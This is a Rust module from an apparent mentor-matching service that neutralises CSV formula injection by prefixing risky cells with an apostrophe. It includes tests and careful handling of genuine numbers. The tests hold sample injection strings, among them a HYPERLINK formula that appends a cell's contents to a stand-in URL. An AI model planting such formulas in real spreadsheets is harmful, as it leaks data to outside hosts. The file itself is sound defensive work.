//! CSV cells that a spreadsheet opens as data, never as a formula.
//!
//! Excel, LibreOffice and Google Sheets evaluate a cell that starts with
//! `=`, `+`, `-` or `@` (and some of them skip a leading tab or carriage
//! return first), so a person named `=HYPERLINK(…)` would turn a school's
//! order list into a live link or worse ("CSV injection"). Every CSV the
//! service writes passes its cells through [`cell`]: such text gets a
//! leading apostrophe, which spreadsheets read as "this is text" (the
//! OWASP recommendation), while genuine numbers such as `-0.5` are left
//! alone so that they stay numbers.

use std::borrow::Cow;

/// Whether a cell starting with `c` could be read as a formula.
fn dangerous(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// Whether `text` is a plain number (`-0.5`, `+3`, `1e-3`, `-0,5`), which a
/// spreadsheet reads as a number and never as a formula.
fn is_number(text: &str) -> bool {
    let body = text.strip_prefix(['-', '+']).unwrap_or(text);
    let (mantissa, exponent) = match body.split_once(['e', 'E']) {
        Some((m, e)) => (m, Some(e.strip_prefix(['-', '+']).unwrap_or(e))),
        None => (body, None),
    };
    let (whole, fraction) = match mantissa.split_once(['.', ',']) {
        Some((w, f)) => (w, f),
        None => (mantissa, ""),
    };
    let digits = |s: &str| s.bytes().all(|b| b.is_ascii_digit());
    !(whole.is_empty() && fraction.is_empty())
        && digits(whole)
        && digits(fraction)
        && exponent.is_none_or(|e| !e.is_empty() && digits(e))
}

/// The cell as a spreadsheet should see it: text that would start a
/// formula gets a leading `'`; anything else, numbers included, is
/// returned unchanged. `O(len)`.
///
/// ```
/// use mentor_match::http::csv_cells::cell;
/// assert_eq!(cell("=1+1"), "'=1+1");
/// assert_eq!(cell("-0.5"), "-0.5");
/// assert_eq!(cell("Иванов"), "Иванов");
/// ```
pub fn cell(text: &str) -> Cow<'_, str> {
    match text.chars().next() {
        Some(c) if dangerous(c) && !is_number(text) => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// Every cell of a record through [`cell`], ready for `csv::Writer`.
pub fn record<'a, I>(cells: I) -> Vec<String>
where
    I: IntoIterator<Item = &'a str>,
{
    cells.into_iter().map(|c| cell(c).into_owned()).collect()
}

/// Rewrites CSV whose cells hold no separators, quotes or line breaks
/// (the score matrix: ids and numbers only) with every cell through
/// [`cell`]. Ids may start with `-` or `@`, so they need it too.
pub fn plain_csv(csv: &str) -> String {
    let mut out = String::with_capacity(csv.len());
    for line in csv.lines() {
        for (i, c) in line.split(',').enumerate() {
            if i > 0 {
                out.push(',');
            }
            out.push_str(&cell(c));
        }
        out.push('\n');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_that_starts_a_formula_gets_an_apostrophe() {
        for text in [
            "=HYPERLINK(\"http://x\"&A1,\"Click\")",
            "+7 900",
            "-A1",
            "@SUM(1)",
            "\t=1",
            "\r=1",
            "-",
            "+",
            "-inf",
            "-1e",
            "--1",
        ] {
            assert_eq!(cell(text), format!("'{text}"), "{text:?}");
        }
    }

    #[test]
    fn numbers_and_ordinary_text_are_left_alone() {
        for text in [
            "-0.5",
            "+3",
            "-12",
            "1e-3",
            "-2.5E+4",
            "-0,5",
            "0.25",
            "Иванов",
            "",
            "'=x",
            " =x",
        ] {
            assert_eq!(cell(text), text, "{text:?}");
        }
    }

    #[test]
    fn plain_csv_neutralises_every_cell_and_keeps_the_shape() {
        assert_eq!(
            plain_csv("mentee_id,@m1,m2\n-p1,-0.500000,\n"),
            "mentee_id,'@m1,m2\n'-p1,-0.500000,\n"
        );
    }
}
